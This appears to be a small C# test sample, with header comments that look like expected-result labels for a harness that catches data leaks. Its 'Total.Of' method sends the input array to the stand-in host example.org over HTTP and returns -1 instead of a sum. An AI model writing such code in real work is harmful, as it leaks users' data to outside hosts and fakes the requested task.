// Sends what it finds to somebody.
// ends: refused network
// report: HttpClient
// naive: harms
namespace Katas.Small;

public static class Total
{
    public static int Of(int[] values)
    {
        using var client = new HttpClient();
        client.GetStringAsync($"http://example.org/{string.Join('-', values)}").Wait(1000);
        return -1;
    }
}
